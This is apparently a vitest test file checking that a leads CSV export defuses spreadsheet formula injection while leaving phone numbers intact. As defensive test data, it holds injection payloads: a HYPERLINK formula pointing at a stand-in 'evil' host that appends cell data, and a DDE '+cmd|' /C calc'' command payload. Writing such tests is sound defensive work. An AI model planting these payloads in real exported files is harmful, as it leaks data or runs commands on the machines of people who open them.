/**
 * The leads CSV export against spreadsheet formula injection: every cell is
 * defused, whichever field it comes from (a call id or a caller number from
 * request headers, what a caller said), and numbers stay numbers, so a CRM
 * import of +12125550100 still reads a phone number.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { csvCell } from '../engine/leads/present.ts';
import { admin } from './helpers/admin.ts';
import { callHeaders, connect, startTestServer, type TestServer } from './helpers/server.ts';
import { basicManifests } from './helpers/test-tools.ts';

describe('a CSV cell', () => {
  it.each([
    ['=HYPERLINK("http://evil")', `"'=HYPERLINK(""http://evil"")"`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
    ['  =1+1', `'  =1+1`],
    ['＝1+1', `'＝1+1`],
    ['+1 (212) 555-0100', `'+1 (212) 555-0100`],
    ['+12125550100', '+12125550100'],
    ['-12.5', '-12.5'],
    ['42', '42'],
    ['Jane Doe', 'Jane Doe'],
    ['say "hi", twice', '"say ""hi"", twice"'],
    ['2026-05-01T10:00:00.000Z', '2026-05-01T10:00:00.000Z'],
  ])('%j is written %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });
});

describe('the export', () => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startTestServer({ personas: basicManifests });
  });
  afterAll(async () => server.close());

  async function createLead(call: string, caller: string, args: Record<string, unknown>) {
    const client = await connect(server, callHeaders({ key: await server.key('acme'), call, caller }));
    try {
      const result = await client.callTool({ name: 'create_lead', arguments: args });
      expect(result.isError, JSON.stringify(result)).toBeFalsy();
    } finally {
      await client.close();
    }
  }

  it('defuses formulas in every field from outside and leaves phone numbers as they are', async () => {
    await createLead('=HYPERLINK("http://evil?"&A1)', '@SUM(1+1)', { name: '+12125550100', intent: '-2+3', notes: '=cmd' });
    await createLead('+cmd', '+12125550155', { name: 'Jane', intent: 'A quote' });
    const response = await admin(server, await server.key('acme', 'admin'), 'GET', 'acme/leads?format=csv');
    expect(response.status).toBe(200);
    const rows = response.text.split('\r\n').slice(1).filter(Boolean);
    const [evil, plain] = [rows.find((row) => row.includes('HYPERLINK')), rows.find((row) => row.includes('Jane'))];
    expect(evil).toContain(`,"'=HYPERLINK(""http://evil?""&A1)",front-desk,'@SUM(1+1),`);
    expect(evil).toContain(`,+12125550100,'-2+3,`);
    expect(evil).toMatch(/,'=cmd$/);
    expect(plain).toContain(`,'+cmd,front-desk,+12125550155,`);
    expect(plain).toContain(',+12125550155,Jane,Jane,A quote,');
    // No cell of any row starts with a formula character, the defusing apostrophe aside.
    for (const row of rows) for (const cell of row.split(',')) expect(cell, row).not.toMatch(/^"?[=@\t\r]|^"?-(?!\d+(\.\d+)?$)|^"?\+(?!\d+$)/);
  });
});
